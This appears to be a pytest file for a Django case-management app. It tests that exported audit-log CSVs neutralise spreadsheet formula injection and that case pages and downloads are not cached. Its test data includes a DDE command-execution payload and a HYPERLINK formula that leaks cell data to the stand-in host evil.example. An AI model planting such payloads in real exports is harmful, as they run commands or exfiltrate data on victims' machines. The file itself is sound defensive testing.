"""Attack 9: exports and downloads.

* A user whose e-mail is a spreadsheet formula works on a case; the coordinator exports the
  case's audit log and opens it in a spreadsheet: the cell must be text, not a formula.
* Case pages, exports and downloads are never kept by the browser or a proxy."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from opora.accounts.models import Role
from opora.audit.services import audit_log
from opora.core.export import FORMULA_TRIGGERS, safe_cell
from opora.core.testing.factories import MembershipFactory

pytestmark = pytest.mark.django_db

# A valid address (RFC 5322 atext), in the normalised (case-folded) form it is stored in.
FORMULA_EMAIL = "=cmd|'/ccalc'!a1@evil.example"


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_formula_in_a_users_email_is_neutralised_in_the_case_audit_csv(client, login, world):
    attacker = MembershipFactory(organisation=world.org, role=Role.CASE_MANAGER, user__email=FORMULA_EMAIL)
    world.case.team.add(attacker)
    login(client, attacker)
    assert client.get(reverse("cases:detail", args=[world.case.pk])).status_code == 200

    login(client, world.members["coordinator"])
    rows = _csv_rows(client.get(reverse("consents:case_audit_csv", args=[world.case.pk])))
    cells = [cell for row in rows[1:] for cell in row if FORMULA_EMAIL in cell]
    assert cells and all(cell == "'" + FORMULA_EMAIL for cell in cells)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_no_cell_of_the_case_audit_csv_starts_a_formula(client, login, world, trigger):
    payload = trigger + 'HYPERLINK("https://evil.example/?leak="&A1;"click")'
    audit_log(
        action=payload[:60],
        actor_email=payload,
        object_type=payload[:60],
        object_id=payload[:64],
        case_id=world.case.pk,
    )
    login(client, world.members["coordinator"])
    rows = _csv_rows(client.get(reverse("consents:case_audit_csv", args=[world.case.pk])))
    payload_cells = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert len(payload_cells) == 4
    assert all(cell.startswith("'" + trigger) for cell in payload_cells)


def test_safe_cell_leaves_plain_values_alone():
    assert safe_cell("Jana Nováková") == "Jana Nováková"
    assert safe_cell(-5) == -5 and safe_cell(None) is None
    assert safe_cell("-5") == "'-5"


def test_no_spreadsheet_is_written_without_the_safe_writer():
    """Every CSV/XLSX writer goes through opora.core.export (csv_writer / safe_row)."""
    root = Path(settings.BASE_DIR) / "opora"
    pattern = re.compile(r"csv\.writer\(|csv\.DictWriter\(|import openpyxl|from openpyxl|xlsxwriter")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "export.py" and "tests" not in path.parts and pattern.search(path.read_text())
    ]
    assert offenders == []


# --- No caching of what a signed-in user sees ---------------------------------------------------


def _assert_not_stored(response):
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_a_case_page_is_not_cached(client, login, world):
    login(client, world.members["case_manager"])
    response = client.get(reverse("cases:detail", args=[world.case.pk]))
    _assert_not_stored(response)
    assert "private" in response["Cache-Control"] and response["Pragma"] == "no-cache"


def test_an_attachment_download_and_the_audit_csv_are_not_cached(client, login, world):
    login(client, world.members["case_manager"])
    _assert_not_stored(client.get(reverse("cases:attachment_download", args=[world.case.pk, world.attachment.pk])))
    login(client, world.members["coordinator"])
    _assert_not_stored(client.get(reverse("consents:case_audit_csv", args=[world.case.pk])))
    _assert_not_stored(client.get(reverse("audit:log")))
